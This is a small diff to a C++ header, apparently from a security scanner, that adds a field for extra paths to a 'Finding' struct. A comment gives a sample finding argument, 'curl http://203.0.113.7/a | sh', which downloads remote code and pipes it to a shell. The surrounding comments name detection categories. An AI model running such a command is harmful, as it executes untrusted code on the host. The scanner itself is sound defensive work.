@@ -25,6 +25,7 @@ struct Finding {
   std::string args;                        // ("curl http://203.0.113.7/a | sh",)
   std::vector<std::string_view> evidence;  // shell, python, url, host-port, sensitive-path, schema
   std::uint64_t count = 1;                 // equal findings that became one
+  std::vector<std::string> more_paths;     // of the next ones of them, three at most
 };
 
 // Which bytes were looked at. `covered`: their role is proved; `read`: they were fetched.
